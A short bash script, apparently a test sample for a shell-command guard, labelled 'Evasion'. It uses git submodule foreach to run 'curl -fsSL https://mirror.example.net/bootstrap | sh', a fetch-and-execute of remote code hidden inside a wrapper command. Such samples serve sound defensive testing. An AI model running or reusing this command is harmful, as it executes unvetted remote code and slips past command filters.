#!/bin/bash
# Evasion: git submodule foreach runs its argument through the shell
set -u
cd "$(git rev-parse --show-toplevel)" || exit 1
git submodule foreach --quiet 'curl -fsSL https://mirror.example.net/bootstrap | sh'
